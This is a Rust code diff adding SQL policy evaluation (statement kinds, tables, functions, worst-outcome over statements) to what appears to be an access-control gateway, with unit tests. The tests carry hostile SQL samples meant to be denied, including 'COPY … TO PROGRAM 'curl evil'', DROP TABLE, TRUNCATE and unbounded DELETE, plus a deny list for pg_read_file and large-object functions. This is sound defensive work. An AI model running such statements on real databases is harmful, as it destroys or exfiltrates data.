@@ -10,11 +10,50 @@
 //!
 //! Rules are considered in source order within each effect, so the reported
 //! rule is the first one of the winning effect.
+//!
+//! # SQL
+//!
+//! SQL is decided one statement at a time ([`Request::Sql`]); a text with
+//! several statements ([`evaluate_statements`], [`evaluate_sql`], or a
+//! `tools/call` whose SQL argument holds several) takes the worst outcome
+//! over its statements: any deny → deny (naming that statement and its
+//! rule), else any review → review, else allow.
+//!
+//! A SQL matcher ([`SqlMatch`]) matches a statement when all its present
+//! conditions hold. The statement's kinds are its own kind plus every
+//! data-modifying kind nested in it (a CTE's DELETE) and, for PREPARE, the
+//! prepared statement's kinds. For `allow` and `review` rules (strict):
+//! - every kind must be in `statements` (empty = any), and a kind the
+//!   classifier does not know (`StatementKind::Other`) never matches;
+//! - every table read or written must match `tables` (empty = any);
+//! - when `functions` is given, every function called must match it.
+//!
+//! For `deny` rules (broad): some kind in `statements` (empty = any kind,
+//! unknown ones included), some touched table in `tables` (empty = no
+//! condition) and some called function in `functions` (empty = no
+//! condition). `without_where` restricts any rule to statements with an
+//! UPDATE/DELETE lacking WHERE; `copy_program` to `COPY … PROGRAM`.
+//!
+//! Table names are compared as `schema.name`, an unqualified name taking
+//! schema `public` (a database name in front is ignored: PostgreSQL refuses
+//! cross-database references). A function pattern without a dot matches
+//! an unqualified call or a `pg_catalog` one; with a dot it matches the
+//! qualified call. Deny rules also match a pattern without a dot against
+//! the bare name of a call in any schema.
+//!
+//! A `tools/call` is decided this way when some rule of the target names
+//! `sql_argument` for the tool (whatever its roles): the argument is
+//! classified once per request; a missing or non-string argument, SQL that
+//! does not parse or is over the classifier's caps is denied.
 
 use serde_json::Value;
 
-use super::model::{ArgConstraint, ArgTest, Effect, Matcher, PathSeg, Policy, Rule};
+use super::model::{
+    ArgConstraint, ArgPath, ArgTest, Effect, Matcher, PathSeg, Policy, Rule, SqlMatch, SqlObject,
+    StatementClass,
+};
 use crate::glob;
+use crate::pg::sql::{self, ObjectType, QualifiedName, StatementInfo, StatementKind};
 
 /// What is being asked, already decoded from the protocol.
 #[derive(Debug, Clone, Copy)]
@@ -29,6 +68,8 @@ pub enum Request<'a> {
     McpMethod { method: &'a str },
     /// A plain HTTP request.
     Http { method: &'a str, path: &'a str },
+    /// One classified SQL statement on a postgres target.
+    Sql { statement: &'a StatementInfo },
 }
 
 impl Request<'_> {
@@ -40,7 +81,19 @@ impl Request<'_> {
             Request::Prompt { name } => format!("prompt `{name}`"),
             Request::McpMethod { method } => format!("method `{method}`"),
             Request::Http { method, path } => format!("{method} {path}"),
+            Request::Sql { statement } => format!("statement `{}`", clip(&statement.text)),
         }
+    }
+}
+
+/// A statement text shortened for messages (one line, at most 80 chars).
+fn clip(text: &str) -> String {
+    let one: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    if one.chars().count() > 80 {
+        let cut: String = one.chars().take(77).collect();
+        format!("{cut}...")
+    } else {
+        one
     }
 }
 
@@ -82,13 +135,171 @@ pub fn evaluate_traced(
     req: &Request,
     trace: &mut dyn FnMut(RuleTrace),
 ) -> Decision {
+    if let Request::ToolCall { name, arguments } = req {
+        let paths = sql_paths(policy, target, name);
+        if !paths.is_empty() {
+            return evaluate_sql_tool(policy, roles, target, req, arguments, &paths, trace);
+        }
+    }
+    decide_one(policy, roles, target, req, None, trace)
+}
+
+/// Decides every statement of a SQL text on a postgres target (worst
+/// outcome wins). Unparsable SQL, or SQL over the classifier's caps, is
+/// denied.
+pub fn evaluate_sql(
+    policy: &Policy,
+    roles: &[String],
+    target: &str,
+    text: &str,
+    trace: &mut dyn FnMut(RuleTrace),
+) -> Decision {
+    match sql::classify(text) {
+        Ok(statements) => evaluate_statements(policy, roles, target, &statements, trace),
+        Err(e) => Decision {
+            effect: Effect::Deny,
+            rule: None,
+            reason: format!("the SQL could not be parsed: {e}"),
+        },
+    }
+}
+
+/// Decides classified statements one by one ([`Request::Sql`]); the worst
+/// outcome wins.
+pub fn evaluate_statements(
+    policy: &Policy,
+    roles: &[String],
+    target: &str,
+    statements: &[StatementInfo],
+    trace: &mut dyn FnMut(RuleTrace),
+) -> Decision {
+    let many = statements.len() > 1;
+    let mut decisions = Vec::with_capacity(statements.len());
+    for (i, statement) in statements.iter().enumerate() {
+        let req = Request::Sql { statement };
+        let mut tr = |mut t: RuleTrace| {
+            if many {
+                t.why = format!("statement {}: {}", i + 1, t.why);
+            }
+            trace(t)
+        };
+        decisions.push(decide_one(policy, roles, target, &req, None, &mut tr));
+    }
+    worst(decisions, "the SQL")
+}
+
+/// The SQL argument paths named by rules of `target` covering tool `name`.
+fn sql_paths<'p>(policy: &'p Policy, target: &str, name: &str) -> Vec<&'p ArgPath> {
+    let mut out: Vec<&ArgPath> = Vec::new();
+    for r in policy.rules.iter().filter(|r| r.target == target) {
+        if let Matcher::Mcp(m) = &r.matcher {
+            if let Some(p) = &m.sql_argument {
+                if glob::any_matches(&m.tools, name) && !out.contains(&p) {
+                    out.push(p);
+                }
+            }
+        }
+    }
+    out
+}
+
+fn evaluate_sql_tool(
+    policy: &Policy,
+    roles: &[String],
+    target: &str,
+    req: &Request,
+    arguments: &Value,
+    paths: &[&ArgPath],
+    trace: &mut dyn FnMut(RuleTrace),
+) -> Decision {
+    let refuse = |why: String| Decision {
+        effect: Effect::Deny,
+        rule: None,
+        reason: format!("{}: {why}", req.describe()),
+    };
+    let mut rounds = Vec::with_capacity(paths.len());
+    for p in paths {
+        let arg = &p.path_text;
+        let text = match lookup(arguments, &p.path) {
+            None => return refuse(format!("the SQL argument `{arg}` is missing")),
+            Some(Value::String(s)) => s,
+            Some(_) => return refuse(format!("the SQL argument `{arg}` is not a string")),
+        };
+        match sql::classify(text) {
+            Ok(st) => rounds.push((*p, st)),
+            Err(e) => {
+                return refuse(format!(
+                    "the SQL in argument `{arg}` could not be parsed: {e}"
+                ))
+            }
+        }
+    }
+    let many = rounds.iter().map(|(_, st)| st.len()).sum::<usize>() > 1;
+    let mut decisions = Vec::new();
+    for (p, statements) in &rounds {
+        for (i, statement) in statements.iter().enumerate() {
+            let mut tr = |mut t: RuleTrace| {
+                if many {
+                    t.why = format!("statement {}: {}", i + 1, t.why);
+                }
+                trace(t)
+            };
+            decisions.push(decide_one(
+                policy,
+                roles,
+                target,
+                req,
+                Some((*p, statement)),
+                &mut tr,
+            ));
+        }
+    }
+    worst(decisions, &req.describe())
+}
+
+/// The worst of per-statement decisions: the first deny, else the first
+/// review, else an allow (naming the first statement's rule).
+fn worst(mut decisions: Vec<Decision>, what: &str) -> Decision {
+    let n = decisions.len();
+    let pick = |e: Effect| decisions.iter().position(|d| d.effect == e);
+    match pick(Effect::Deny).or_else(|| pick(Effect::Review)) {
+        Some(i) => decisions.swap_remove(i),
+        None => match decisions.into_iter().next() {
+            Some(d) if n == 1 => d,
+            Some(d) => Decision {
+                effect: Effect::Allow,
+                rule: d.rule,
+                reason: format!("{what} is allowed (all {n} statements)"),
+            },
+            None => Decision {
+                effect: Effect::Deny,
+                rule: None,
+                reason: format!("{what} has no statement"),
+            },
+        },
+    }
+}
+
+/// One request (and, for a SQL tool call, one of its statements).
+fn decide_one(
+    policy: &Policy,
+    roles: &[String],
+    target: &str,
+    req: &Request,
+    stmt: Option<(&ArgPath, &StatementInfo)>,
+    trace: &mut dyn FnMut(RuleTrace),
+) -> Decision {
+    let what = match stmt {
+        Some((_, s)) => format!("{} statement `{}`", req.describe(), clip(&s.text)),
+        None => req.describe(),
+    };
     let mut first: [Option<(&Rule, String)>; 3] = [None, None, None];
     // The first allow rule that fitted the caller and the item but failed an
     // argument constraint: named in the default deny so the caller learns
     // which rule and which argument stopped it.
     let mut near_miss: Option<(&Rule, String)> = None;
     for rule in policy.rules.iter().filter(|r| r.target == target) {
-        let outcome = rule_matches(rule, roles, req);
+        let outcome = rule_matches(rule, roles, req, stmt);
         let (matched, why) = match outcome {
             Ok(why) => (true, why),
             Err(Miss { why, near }) => {
@@ -123,7 +334,7 @@ pub fn evaluate_traced(
         return Decision {
             effect: Effect::Deny,
             rule: Some(rule.id.clone()),
-            reason: with_author_reason(format!("{} is denied ({why})", req.describe()), rule),
+            reason: with_author_reason(format!("{} is denied ({why})", what), rule),
         };
     }
     // 2. Review: approval required (refused by the filter until approved).
@@ -131,10 +342,7 @@ pub fn evaluate_traced(
         return Decision {
             effect: Effect::Review,
             rule: Some(rule.id.clone()),
-            reason: with_author_reason(
-                format!("{} requires a reviewer's approval", req.describe()),
-                rule,
-            ),
+            reason: with_author_reason(format!("{} requires a reviewer's approval", what), rule),
         };
     }
     // 3. An allow rule allows.
@@ -142,7 +350,7 @@ pub fn evaluate_traced(
         return Decision {
             effect: Effect::Allow,
             rule: Some(rule.id.clone()),
-            reason: format!("{} is allowed", req.describe()),
+            reason: format!("{} is allowed", what),
         };
     }
     // 4. Default deny.
@@ -150,7 +358,7 @@ pub fn evaluate_traced(
         return Decision {
             effect: Effect::Deny,
             rule: Some(rule.id.clone()),
-            reason: with_author_reason(format!("{} is not allowed: {why}", req.describe()), rule),
+            reason: with_author_reason(format!("{} is not allowed: {why}", what), rule),
         };
     }
     Decision {
@@ -158,7 +366,7 @@ pub fn evaluate_traced(
         rule: None,
         reason: format!(
             "{} is not allowed for your roles on target `{target}` (no rule allows it)",
-            req.describe()
+            what
         ),
     }
 }
@@ -196,7 +404,12 @@ impl From<&str> for Miss {
 }
 
 /// `Ok(why it matched)` or `Err(why it did not)`.
-fn rule_matches(rule: &Rule, roles: &[String], req: &Request) -> Result<String, Miss> {
+fn rule_matches(
+    rule: &Rule,
+    roles: &[String],
+    req: &Request,
+    stmt: Option<(&ArgPath, &StatementInfo)>,
+) -> Result<String, Miss> {
     if !role_applies(rule, roles) {
         return Err(format!("caller holds none of the roles {:?}", rule.roles).into());
     }
@@ -208,6 +421,21 @@ fn rule_matches(rule: &Rule, roles: &[String], req: &Request) -> Result<String, 
             }
             for c in &m.arguments {
                 check_argument(c, arguments).map_err(|why| Miss { why, near: true })?;
+            }
+            if let Some(want) = &m.sql_argument {
+                let default = SqlMatch::default();
+                let sm = m.sql.as_ref().unwrap_or(&default);
+                return match stmt {
+                    Some((p, s)) if p == want => sql_matches(sm, rule.effect, s)
+                        .map(|why| format!("tool `{name}` matches {:?} and {why}", m.tools))
+                        .map_err(|why| Miss { why, near: true }),
+                    Some(_) => Err(format!(
+                        "the rule judges the SQL in argument `{}`, not this statement's",
+                        want.path_text
+                    )
+                    .into()),
+                    None => Err("the tool call carries no classified SQL".into()),
+                };
             }
             if m.arguments.is_empty() {
                 Ok(format!("tool `{name}` matches {:?}", m.tools))
@@ -248,8 +476,274 @@ fn rule_matches(rule: &Rule, roles: &[String], req: &Request) -> Result<String, 
             }
             Ok(format!("{method} {path} matches the rule"))
         }
+        (Matcher::Sql(m), Request::Sql { statement }) => {
+            sql_matches(m, rule.effect, statement).map_err(|why| Miss { why, near: true })
+        }
         _ => Err("rule does not cover this kind of request".into()),
     }
+}
+
+/// The kinds of a statement as the policy sees them: its own, the
+/// data-modifying ones nested in it and, for PREPARE, the prepared
+/// statement's.
+fn kinds_of(s: &StatementInfo) -> Vec<&StatementKind> {
+    let mut out = vec![&s.kind];
+    out.extend(s.dml_kinds.iter());
+    if s.kind == StatementKind::Prepare {
+        if let Some(inner) = &s.inner {
+            out.extend(kinds_of(inner));
+        }
+    }
+    out
+}
+
+/// `has_where` and `copy_program`, looking into a prepared statement.
+fn guards_of(s: &StatementInfo) -> (bool, bool) {
+    let (mut has_where, mut program) = (s.has_where, s.copy_program);
+    if s.kind == StatementKind::Prepare {
+        if let Some(inner) = &s.inner {
+            let (w, p) = guards_of(inner);
+            has_where &= w;
+            program |= p;
+        }
+    }
+    (has_where, program)
+}
+
+fn object_name(o: &ObjectType) -> &str {
+    match o {
+        ObjectType::Table => "table",
+        ObjectType::View => "view",
+        ObjectType::MaterializedView => "materialized view",
+        ObjectType::Index => "index",
+        ObjectType::Schema => "schema",
+        ObjectType::Database => "database",
+        ObjectType::Role => "role",
+        ObjectType::User => "user",
+        ObjectType::Sequence => "sequence",
+        ObjectType::Type => "type",
+        ObjectType::Domain => "domain",
+        ObjectType::Function => "function",
+        ObjectType::Procedure => "procedure",
+        ObjectType::Trigger => "trigger",
+        ObjectType::Extension => "extension",
+        ObjectType::Policy => "policy",
+        ObjectType::Server => "server",
+        ObjectType::Collation => "collation",
+        ObjectType::Operator => "operator",
+        ObjectType::Other(s) => s,
+    }
+}
+
+/// A statement kind in the policy's words (`select`, `drop table`).
+pub fn kind_name(k: &StatementKind) -> String {
+    let simple = match k {
+        StatementKind::Select => "select",
+        StatementKind::Insert => "insert",
+        StatementKind::Update => "update",
+        StatementKind::Delete => "delete",
+        StatementKind::Merge => "merge",
+        StatementKind::CopyTo => "copy to",
+        StatementKind::CopyFrom => "copy from",
+        StatementKind::Create(o) => return format!("create {}", object_name(o)),
+        StatementKind::Alter(o) => return format!("alter {}", object_name(o)),
+        StatementKind::Drop(o) => return format!("drop {}", object_name(o)),
+        StatementKind::Truncate => "truncate",
+        StatementKind::Grant => "grant",
+        StatementKind::Revoke => "revoke",
+        StatementKind::DoBlock => "do",
+        StatementKind::Call => "call",
+        StatementKind::Set => "set",
+        StatementKind::Show => "show",
+        StatementKind::Transaction => "transaction",
+        StatementKind::Explain => "explain",
+        StatementKind::Prepare => "prepare",
+        StatementKind::Execute => "execute",
+        StatementKind::Deallocate => "deallocate",
+        StatementKind::Listen => "listen",
+        StatementKind::Notify => "notify",
+        StatementKind::Unlisten => "unlisten",
+        StatementKind::Vacuum => "vacuum",
+        StatementKind::Analyze => "analyze",
+        StatementKind::Discard => "discard",
+        StatementKind::Lock => "lock",
+        StatementKind::Comment => "comment",
+        StatementKind::Cursor => "cursor",
+        StatementKind::Other(n) => return format!("unknown ({n})"),
+    };
+    simple.to_owned()
+}
+
+fn object_matches(want: &Option<SqlObject>, got: &ObjectType) -> bool {
+    let Some(want) = want else { return true };
+    match (want, got) {
+        // `CREATE USER` is `CREATE ROLE … LOGIN`.
+        (SqlObject::Role, ObjectType::User) => true,
+        _ => object_name(got) == want.as_str(),
+    }
+}
+
+/// Whether a policy statement class covers a classified kind.
+pub fn class_matches(c: &StatementClass, k: &StatementKind) -> bool {
+    use StatementClass as C;
+    use StatementKind as K;
+    match (c, k) {
+        (C::Create(o), K::Create(t)) | (C::Alter(o), K::Alter(t)) | (C::Drop(o), K::Drop(t)) => {
+            object_matches(o, t)
+        }
+        (C::Copy, K::CopyTo | K::CopyFrom) => true,
+        (C::Select, K::Select)
+        | (C::Insert, K::Insert)
+        | (C::Update, K::Update)
+        | (C::Delete, K::Delete)
+        | (C::Merge, K::Merge)
+        | (C::CopyTo, K::CopyTo)
+        | (C::CopyFrom, K::CopyFrom)
+        | (C::Truncate, K::Truncate)
+        | (C::Grant, K::Grant)
+        | (C::Revoke, K::Revoke)
+        | (C::Do, K::DoBlock)
+        | (C::Call, K::Call)
+        | (C::Set, K::Set)
+        | (C::Show, K::Show)
+        | (C::Transaction, K::Transaction)
+        | (C::Explain, K::Explain)
+        | (C::Prepare, K::Prepare)
+        | (C::Execute, K::Execute)
+        | (C::Deallocate, K::Deallocate)
+        | (C::Listen, K::Listen)
+        | (C::Notify, K::Notify)
+        | (C::Unlisten, K::Unlisten)
+        | (C::Vacuum, K::Vacuum)
+        | (C::Analyze, K::Analyze)
+        | (C::Lock, K::Lock)
+        | (C::Comment, K::Comment)
+        | (C::Discard, K::Discard)
+        | (C::Cursor, K::Cursor) => true,
+        _ => false,
+    }
+}
+
+/// `schema.name`, an unqualified name taking schema `public`.
+pub fn table_name(q: &QualifiedName) -> String {
+    format!("{}.{}", q.schema.as_deref().unwrap_or("public"), q.name)
+}
+
+fn function_matches(patterns: &[String], f: &QualifiedName, broad: bool) -> bool {
+    let bare = f.name.as_str();
+    match f.schema.as_deref() {
+        None | Some("pg_catalog") => {
+            glob::any_matches(patterns, bare)
+                || glob::any_matches(patterns, &format!("pg_catalog.{bare}"))
+        }
+        Some(s) => {
+            glob::any_matches(patterns, &format!("{s}.{bare}"))
+                || (broad && glob::any_matches(patterns, bare))
+        }
+    }
+}
+
+fn classes(list: &[StatementClass]) -> String {
+    let v: Vec<String> = list.iter().map(StatementClass::as_string).collect();
+    format!("[{}]", v.join(", "))
+}
+
+/// Whether SQL matcher `m` of a rule with `effect` matches statement `s`
+/// (see the module documentation): `Ok(why)` or `Err(why not)`.
+fn sql_matches(m: &SqlMatch, effect: Effect, s: &StatementInfo) -> Result<String, String> {
+    let strict = effect != Effect::Deny;
+    let kinds = kinds_of(s);
+    if strict {
+        if let Some(k) = kinds.iter().find(|k| matches!(k, StatementKind::Other(_))) {
+            return Err(format!(
+                "statement kind {} is not classified by pinhole: only deny rules match it",
+                kind_name(k)
+            ));
+        }
+    }
+    if !m.statements.is_empty() {
+        let covered = |k: &&StatementKind| m.statements.iter().any(|c| class_matches(c, k));
+        if strict {
+            if let Some(k) = kinds.iter().find(|k| !covered(k)) {
+                return Err(format!(
+                    "statement kind {} is not in {}",
+                    kind_name(k),
+                    classes(&m.statements)
+                ));
+            }
+        } else if !kinds.iter().any(covered) {
+            return Err(format!(
+                "statement kind {} is not in {}",
+                kind_name(&s.kind),
+                classes(&m.statements)
+            ));
+        }
+    }
+    let (has_where, program) = guards_of(s);
+    if m.without_where && has_where {
+        return Err("the statement has no UPDATE or DELETE without WHERE".into());
+    }
+    if m.copy_program && !program {
+        return Err("the statement is not a COPY … PROGRAM".into());
+    }
+    let mut tables: Vec<String> = Vec::new();
+    for t in s.reads.iter().chain(&s.writes) {
+        let n = table_name(t);
+        if !tables.contains(&n) {
+            tables.push(n);
+        }
+    }
+    if !m.tables.is_empty() {
+        if strict {
+            if let Some(t) = tables.iter().find(|t| !glob::any_matches(&m.tables, t)) {
+                return Err(format!("table `{t}` is not in {:?}", m.tables));
+            }
+        } else if !tables.iter().any(|t| glob::any_matches(&m.tables, t)) {
+            return Err(format!("the statement touches no table in {:?}", m.tables));
+        }
+    }
+    if !m.functions.is_empty() {
+        if strict {
+            if let Some(f) = s
+                .functions
+                .iter()
+                .find(|f| !function_matches(&m.functions, f, false))
+            {
+                return Err(format!("function `{f}` is not in {:?}", m.functions));
+            }
+        } else {
+            match s
+                .functions
+                .iter()
+                .find(|f| function_matches(&m.functions, f, true))
+            {
+                Some(f) => {
+                    return Ok(format!(
+                        "{} statement calls function `{f}`",
+                        kind_name(&s.kind)
+                    ))
+                }
+                None => {
+                    return Err(format!(
+                        "the statement calls no function in {:?}",
+                        m.functions
+                    ))
+                }
+            }
+        }
+    }
+    let mut why = format!("{} statement", kind_name(&s.kind));
+    if !tables.is_empty() {
+        why.push_str(&format!(" on {}", tables.join(", ")));
+    }
+    if m.without_where {
+        why.push_str(" without WHERE");
+    }
+    if m.copy_program {
+        why.push_str(" with COPY … PROGRAM");
+    }
+    why.push_str(" matches the rule's SQL conditions");
+    Ok(why)
 }
 
 /// Look up `path` inside `root`.
@@ -356,7 +850,10 @@ pub fn visible(policy: &Policy, roles: &[String], target: &str, item: Item) -> b
             continue;
         }
         let unconditional = match &rule.matcher {
-            Matcher::Mcp(m) => m.arguments.is_empty() || !matches!(req, Request::ToolCall { .. }),
+            Matcher::Mcp(m) => {
+                (m.arguments.is_empty() && m.sql_argument.is_none())
+                    || !matches!(req, Request::ToolCall { .. })
+            }
             _ => true,
         };
         match rule.effect {
@@ -536,5 +1033,468 @@ mod tests {
         assert!(!visible(&p, &dev, "tools", Item::Tool("rm_rf")));
         assert!(visible(&p, &dev, "tools", Item::Tool("drop_table")));
         assert!(!visible(&p, &[], "tools", Item::Tool("k8s_get_pods")));
+    }
+
+    // ------------------------------------------------------------- SQL
+
+    fn sqlm(statements: &[&str], tables: &[&str]) -> SqlMatch {
+        SqlMatch {
+            statements: statements
+                .iter()
+                .map(|s| StatementClass::parse(s).unwrap())
+                .collect(),
+            tables: tables.iter().map(|s| s.to_string()).collect(),
+            ..Default::default()
+        }
+    }
+
+    fn on(target: &str, mut r: Rule) -> Rule {
+        r.target = target.into();
+        r
+    }
+
+    /// SCENARIOS.md's orders-db and agent-sql rules.
+    fn sql_policy() -> Policy {
+        let mut agent = tools(&["query"]);
+        agent.sql_argument = Some(ArgPath {
+            path: vec![PathSeg::Key("sql".into())],
+            path_text: "sql".into(),
+        });
+        agent.sql = Some(sqlm(&["select"], &["public.orders"]));
+        let mut no_files = tools(&["query"]);
+        no_files.sql_argument = agent.sql_argument.clone();
+        no_files.sql = Some(SqlMatch {
+            functions: vec!["pg_read_file".into(), "lo_*".into()],
+            ..Default::default()
+        });
+        let db = |id: &str, e: Effect, roles: &[&str], m: SqlMatch| {
+            on("orders-db", rule(id, e, roles, Matcher::Sql(m)))
+        };
+        let mut unbounded = sqlm(&["update", "delete"], &[]);
+        unbounded.without_where = true;
+        let mut program = sqlm(&[], &[]);
+        program.copy_program = true;
+        Policy {
+            targets: vec![
+                Target {
+                    name: "tools".into(),
+                    protocol: Protocol::Mcp,
+                    forward_token: false,
+                },
+                Target {
+                    name: "orders-db".into(),
+                    protocol: Protocol::Postgres,
+                    forward_token: false,
+                },
+            ],
+            rules: vec![
+                db(
+                    "analysts-read-orders",
+                    Effect::Allow,
+                    &["analyst"],
+                    sqlm(&["select"], &["public.orders", "public.customers"]),
+                ),
+                db(
+                    "writers",
+                    Effect::Allow,
+                    &["writer"],
+                    sqlm(&["select", "update", "delete", "insert"], &["public.*"]),
+                ),
+                db(
+                    "ddl-needs-review",
+                    Effect::Review,
+                    &["dba"],
+                    sqlm(&["create", "alter"], &[]),
+                ),
+                db("dba-all", Effect::Allow, &["dba"], SqlMatch::default()),
+                db(
+                    "never-destroy",
+                    Effect::Deny,
+                    &[],
+                    sqlm(&["drop", "truncate"], &[]),
+                ),
+                db("no-unbounded-writes", Effect::Deny, &[], unbounded),
+                db("no-program", Effect::Deny, &[], program),
+                rule(
+                    "agent-sql",
+                    Effect::Allow,
+                    &["analyst"],
+                    Matcher::Mcp(agent),
+                ),
+                rule("no-file-reads", Effect::Deny, &[], Matcher::Mcp(no_files)),
+                rule(
+                    "k8s",
+                    Effect::Allow,
+                    &["analyst"],
+                    Matcher::Mcp(tools(&["k8s_*"])),
+                ),
+            ],
+            ..Default::default()
+        }
+    }
+
+    fn sql_on_db(p: &Policy, roles: &[&str], text: &str) -> Decision {
+        let roles: Vec<String> = roles.iter().map(|s| s.to_string()).collect();
+        evaluate_sql(p, &roles, "orders-db", text, &mut |_| {})
+    }
+
+    fn verdict(d: &Decision) -> (Effect, Option<&str>) {
+        (d.effect, d.rule.as_deref())
+    }
+
+    #[test]
+    fn sql_rules_on_a_postgres_target() {
+        let p = sql_policy();
+        let a = &["analyst"];
+        let d = sql_on_db(
+            &p,
+            a,
+            "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id",
+        );
+        assert_eq!(verdict(&d), (Effect::Allow, Some("analysts-read-orders")));
+        // Another table, a write, a schema outside public: default deny
+        // naming nobody.
+        for q in [
+            "SELECT * FROM deployments",
+            "SELECT * FROM secret.orders",
+            "DELETE FROM orders WHERE id = 1",
+            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
+            "SELECT * FROM orders WHERE id IN (SELECT id FROM public.payments)",
+        ] {
+            let d = sql_on_db(&p, a, q);
+            assert_eq!(d.effect, Effect::Deny, "{q}: {d:?}");
+        }
+        let d = sql_on_db(&p, a, "SELECT * FROM payments");
+        assert!(d.reason.contains("public.payments"), "{}", d.reason);
+        // never-destroy: drop and truncate, for everyone.
+        for q in [
+            "DROP TABLE orders",
+            "TRUNCATE orders",
+            "DROP INDEX orders_idx",
+        ] {
+            let d = sql_on_db(&p, &["dba"], q);
+            assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")), "{q}");
+        }
+        // no-unbounded-writes: UPDATE/DELETE without WHERE, nested too.
+        let w = &["writer"];
+        assert!(sql_on_db(&p, w, "UPDATE orders SET total = 0 WHERE id = 1").allowed());
+        assert!(sql_on_db(&p, w, "DELETE FROM orders WHERE id = 1").allowed());
+        for q in [
+            "UPDATE orders SET total = 0",
+            "DELETE FROM orders",
+            "WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d",
+        ] {
+            let d = sql_on_db(&p, w, q);
+            assert_eq!(
+                verdict(&d),
+                (Effect::Deny, Some("no-unbounded-writes")),
+                "{q}"
+            );
+        }
+        // Review for DDL (deny still wins over it).
+        let d = sql_on_db(&p, &["dba"], "ALTER TABLE orders ADD COLUMN note text");
+        assert_eq!(verdict(&d), (Effect::Review, Some("ddl-needs-review")));
+        assert!(sql_on_db(&p, &["dba"], "VACUUM orders").allowed());
+        // COPY … PROGRAM is denied; a plain COPY TO STDOUT is not.
+        let d = sql_on_db(&p, &["dba"], "COPY orders TO PROGRAM 'curl evil'");
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-program")));
+        assert!(sql_on_db(&p, &["dba"], "COPY orders TO STDOUT").allowed());
+        // EXPLAIN ANALYZE is judged as its statement.
+        let d = sql_on_db(&p, w, "EXPLAIN ANALYZE DELETE FROM orders");
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-unbounded-writes")));
+        // Unparsable SQL and SQL over the caps are denied.
+        let d = sql_on_db(&p, &["dba"], "SELEC 1");
+        assert_eq!(verdict(&d), (Effect::Deny, None));
+        assert!(d.reason.contains("could not be parsed"), "{}", d.reason);
+        let long = format!("SELECT 1{}", " ".repeat(crate::pg::sql::MAX_SQL_LEN));
+        assert_eq!(sql_on_db(&p, &["dba"], &long).effect, Effect::Deny);
+    }
+
+    #[test]
+    fn multi_statement_takes_the_worst() {
+        let p = sql_policy();
+        let a = &["analyst"];
+        assert!(sql_on_db(&p, a, "SELECT 1; SELECT * FROM orders").allowed());
+        let d = sql_on_db(&p, a, "SELECT 1; DROP TABLE orders; SELECT 2");
+        assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")));
+        assert!(d.reason.contains("DROP TABLE orders"), "{}", d.reason);
+        // A review and an allow: review; a review and a deny: deny.
+        let dba = &["dba"];
+        let d = sql_on_db(&p, dba, "SELECT 1; CREATE TABLE t (a int)");
+        assert_eq!(verdict(&d), (Effect::Review, Some("ddl-needs-review")));
+        let d = sql_on_db(&p, dba, "CREATE TABLE t (a int); TRUNCATE orders");
+        assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")));
+        // Traces say which statement they are about.
+        let mut seen = Vec::new();
+        let roles = vec!["analyst".to_string()];
+        evaluate_sql(&p, &roles, "orders-db", "SELECT 1; SELECT 2", &mut |t| {
+            seen.push(t)
+        });
+        assert!(seen.iter().any(|t| t.why.starts_with("statement 2: ")));
+    }
+
+    #[test]
+    fn allow_and_deny_read_lists_differently() {
+        let mut p = sql_policy();
+        // Allow: every table must match; deny: one is enough.
+        p.rules = vec![
+            on(
+                "orders-db",
+                rule(
+                    "read",
+                    Effect::Allow,
+                    &["r"],
+                    Matcher::Sql(sqlm(&["select"], &["public.orders"])),
+                ),
+            ),
+            on(
+                "orders-db",
+                rule(
+                    "no-secrets",
+                    Effect::Deny,
+                    &[],
+                    Matcher::Sql(sqlm(&[], &["secret.*"])),
+                ),
+            ),
+            on(
+                "orders-db",
+                rule(
+                    "only-lower",
+                    Effect::Allow,
+                    &["fn"],
+                    Matcher::Sql(SqlMatch {
+                        functions: vec!["lower".into(), "count".into()],
+                        ..sqlm(&["select"], &[])
+                    }),
+                ),
+            ),
+        ];
+        let none: &[&str] = &["r"];
+        assert!(!sql_on_db(&p, none, "SELECT * FROM orders JOIN other USING (id)").allowed());
+        let d = sql_on_db(&p, none, "SELECT * FROM orders JOIN secret.keys USING (id)");
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-secrets")));
+        // A deny with no list is about any statement of its kinds, unknown
+        // kinds included; an allow never matches an unknown kind.
+        let unknown = StatementInfo {
+            kind: StatementKind::Other("Fancy".into()),
+            reads: vec![],
+            writes: vec![],
+            functions: vec![],
+            dml_kinds: vec![],
+            has_where: true,
+            copy_program: false,
+            copy_file: false,
+            inner: None,
+            text: "FANCY".into(),
+        };
+        let any_allow = vec![on(
+            "orders-db",
+            rule("all", Effect::Allow, &[], Matcher::Sql(SqlMatch::default())),
+        )];
+        let q = Policy {
+            rules: any_allow,
+            ..p.clone()
+        };
+        let d = evaluate(
+            &q,
+            &[],
+            "orders-db",
+            &Request::Sql {
+                statement: &unknown,
+            },
+        );
+        assert_eq!(verdict(&d), (Effect::Deny, Some("all")));
+        assert!(d.reason.contains("only deny rules"), "{}", d.reason);
+        let d = evaluate(
+            &q,
+            &[],
+            "orders-db",
+            &Request::Sql {
+                statement: &unknown,
+            },
+        );
+        assert!(d.reason.contains("FANCY"), "{}", d.reason);
+        let mut q2 = q.clone();
+        q2.rules.push(on(
+            "orders-db",
+            rule("d", Effect::Deny, &[], Matcher::Sql(SqlMatch::default())),
+        ));
+        let d = evaluate(
+            &q2,
+            &[],
+            "orders-db",
+            &Request::Sql {
+                statement: &unknown,
+            },
+        );
+        assert_eq!(verdict(&d), (Effect::Deny, Some("d")));
+        // Allow `functions`: every call must match (pg_catalog ones too).
+        let f = &["fn"];
+        assert!(sql_on_db(&p, f, "SELECT lower(name), count(*) FROM t").allowed());
+        assert!(sql_on_db(&p, f, "SELECT pg_catalog.lower('A')").allowed());
+        assert!(!sql_on_db(&p, f, "SELECT lower(name), upper(name) FROM t").allowed());
+        assert!(!sql_on_db(&p, f, "SELECT evil.lower('a')").allowed());
+        // Object types: `drop table` is not `drop index`; `role` covers users.
+        assert!(class_matches(
+            &StatementClass::parse("drop table").unwrap(),
+            &StatementKind::Drop(ObjectType::Table)
+        ));
+        assert!(!class_matches(
